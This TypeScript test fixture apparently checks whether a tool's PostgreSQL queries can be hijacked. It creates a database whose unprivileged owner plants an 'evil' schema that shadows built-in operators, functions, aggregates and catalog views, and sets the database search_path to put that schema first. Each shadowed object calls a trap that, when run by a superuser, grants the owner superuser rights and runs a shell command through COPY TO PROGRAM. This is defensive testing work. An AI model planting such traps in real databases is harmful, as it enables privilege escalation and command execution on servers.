/**
 * A database whose owner, a role without any rights, waits for a superuser to run one word of theirs: operators,
 * functions, aggregates, types and casts that stand before PostgreSQL's own. Whoever runs one makes the owner a
 * superuser, or, where nothing may be written, leaves a file.
 */
import { chmodSync, existsSync, mkdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type { TestPostgres } from '../servers/postgres.ts';

export interface HostileDatabase {
  readonly name: string;
  readonly owner: string;
  /** What the owner has got since the last call, and loses by it: nothing, if all is well. */
  spoils(): Promise<string[]>;
}

/** `folder` is where the file is left; the server's user must reach it. */
export async function createHostileDatabase(
  server: TestPostgres,
  folder: string,
  { name = 'app', owner = 'mallory' } = {},
): Promise<HostileDatabase> {
  const place = join(folder, `spoils-of-${name}`);
  mkdirSync(place);
  chmodSync(place, 0o777);
  const file = join(place, 'file');
  await server.psql('postgres', `CREATE ROLE ${owner} LOGIN; CREATE DATABASE ${name} OWNER ${owner}`);
  const asOwner = (sql: string): Promise<string> => server.psql(name, `SET SESSION AUTHORIZATION ${owner};\n${sql}`);
  await asOwner(trapSql(owner, file) + wordsSql + `ALTER DATABASE ${name} SET search_path = evil, pg_catalog, public;`);
  return {
    name,
    owner,
    spoils: async () => {
      const [role] = await server.query('postgres', `SELECT rolsuper FROM pg_roles WHERE rolname = '${owner}'`);
      const found = [
        ...(role?.['rolsuper'] === 't' ? [`${owner} is a superuser`] : []),
        ...(existsSync(file) ? [`${file} was written`] : []),
      ];
      await server.psql('postgres', `ALTER ROLE ${owner} NOSUPERUSER`);
      rmSync(file, { force: true });
      return found;
    },
  };
}

/** evil.trap() springs for superusers only, and lets everything go on as if nothing had happened. */
function trapSql(owner: string, file: string): string {
  return `
    CREATE SCHEMA evil; GRANT USAGE ON SCHEMA evil TO PUBLIC;
    CREATE FUNCTION evil.trap() RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $$
    BEGIN
      IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        BEGIN EXECUTE 'ALTER ROLE ${owner} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
        BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch ${file}'''; EXCEPTION WHEN OTHERS THEN NULL; END;
      END IF;
    END $$;`;
}

const operatorTypes = ['text', 'name', 'oid', '"char"', 'integer', 'bigint', 'smallint', 'boolean'];

function operators(): string {
  const one = (operator: string, name: string, left: string, right: string): string => `
    CREATE FUNCTION evil.${name}(a ${left}, b ${right}) RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN PERFORM evil.trap(); RETURN a::text OPERATOR(pg_catalog.${operator}) b::text; END $$;
    CREATE OPERATOR evil.${operator} (LEFTARG = ${left}, RIGHTARG = ${right}, FUNCTION = evil.${name});`;
  const pairs: readonly (readonly [string, string])[] = [
    ...operatorTypes.map((type) => [type, type] as const),
    ['name', 'text'],
    ['text', 'name'],
  ];
  return pairs
    .flatMap(([left, right]) => [
      one('=', 'eq', left, right),
      one('<>', 'ne', left, right),
      ...(left === 'boolean' ? [] : [one('<', 'lt', left, right), one('>', 'gt', left, right)]),
    ])
    .concat(
      ['~', '!~', '~~'].map((each, index) => one(each, `like${index}`, 'name', 'text')),
      ['~', '!~', '~~'].map((each, index) => one(each, `like${index}`, 'text', 'text')),
    )
    .join('');
}

/** Functions that our own statements call, by the arguments they are called with. */
const calls: readonly (readonly [name: string, args: string, returns: string])[] = [
  ['current_setting', 'text', 'text'],
  ['current_setting', 'text, boolean', 'text'],
  ['set_config', 'text, text, boolean', 'text'],
  ['pg_is_in_recovery', '', 'boolean'],
  ['pg_backend_pid', '', 'integer'],
  ['pg_export_snapshot', '', 'text'],
  ['pg_current_wal_lsn', '', 'pg_lsn'],
  ['pg_switch_wal', '', 'pg_lsn'],
  ['pg_get_userbyid', 'oid', 'name'],
  ['pg_encoding_to_char', 'integer', 'name'],
  ['shobj_description', 'oid, name', 'text'],
  ['quote_ident', 'text', 'text'],
  ['split_part', 'text, text, integer', 'text'],
  ['strpos', 'text, text', 'integer'],
  ['substr', 'text, integer', 'text'],
  ['clock_timestamp', '', 'timestamptz'],
  ['now', '', 'timestamptz'],
  ['to_char', 'timestamp, text', 'text'],
  ['has_table_privilege', 'text, text', 'boolean'],
  ['has_sequence_privilege', 'oid, text', 'boolean'],
  ['pg_total_relation_size', 'regclass', 'bigint'],
  ['pg_table_size', 'regclass', 'bigint'],
  ['pg_database_size', 'name', 'bigint'],
  ['pg_database_size', 'oid', 'bigint'],
  ['hash_record_extended', 'record, bigint', 'bigint'],
  ['hashtextextended', 'text, bigint', 'bigint'],
  ['array_to_string', 'anyarray, text', 'text'],
];

const wordsSql = `${operators()}${calls
  .map(
    ([name, args, returns]) => `
    CREATE FUNCTION evil.${name}(${args}) RETURNS ${returns} LANGUAGE plpgsql AS $$
    BEGIN PERFORM evil.trap(); RETURN NULL; END $$;`,
  )
  .join('')}
    CREATE FUNCTION evil.step(a anyelement, b anyelement) RETURNS anyelement LANGUAGE plpgsql AS $$
    BEGIN PERFORM evil.trap(); RETURN a; END $$;
    CREATE AGGREGATE evil.max(anyelement) (SFUNC = evil.step, STYPE = anyelement);
    CREATE AGGREGATE evil.sum(anyelement) (SFUNC = evil.step, STYPE = anyelement);
    CREATE FUNCTION evil.trapped(text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
    BEGIN PERFORM evil.trap(); RETURN true; END $$;
    CREATE DOMAIN evil.int4 AS integer CHECK (evil.trapped(VALUE::pg_catalog.text));
    CREATE DOMAIN evil.regclass AS pg_catalog.regclass CHECK (evil.trapped('x'));
    CREATE DOMAIN evil.oid AS pg_catalog.oid CHECK (evil.trapped('x'));
    CREATE VIEW evil.pg_settings AS SELECT 'x' AS name WHERE evil.trapped('x');
    CREATE VIEW evil.pg_database AS SELECT d.* FROM pg_catalog.pg_database d WHERE evil.trapped('x');
    CREATE VIEW evil.pg_class AS SELECT c.* FROM pg_catalog.pg_class c WHERE evil.trapped('x');
`;
